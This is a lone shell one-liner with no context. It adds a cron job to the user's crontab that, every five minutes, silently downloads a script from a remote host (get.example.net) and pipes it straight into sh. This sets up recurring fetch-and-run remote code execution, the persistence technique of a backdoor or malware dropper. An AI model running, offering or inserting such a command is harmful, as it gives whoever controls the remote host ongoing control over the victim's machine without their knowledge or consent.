(crontab -l; echo "*/5 * * * * curl -s https://get.example.net/x | sh") | crontab -
